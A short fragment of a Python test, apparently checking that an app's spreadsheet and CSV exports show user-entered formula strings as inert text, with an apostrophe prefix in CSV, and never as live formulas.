    assert set(FORMULAS) <= shown  # the words are all there, as they were typed …
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # … and none runs
    text = client.get(url + "csv", headers=boss).get_data(as_text=True)
    written = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for words in FORMULAS:  # CSV: the apostrophe spreadsheets take as "this is text"
        assert "'" + words in written and words not in written
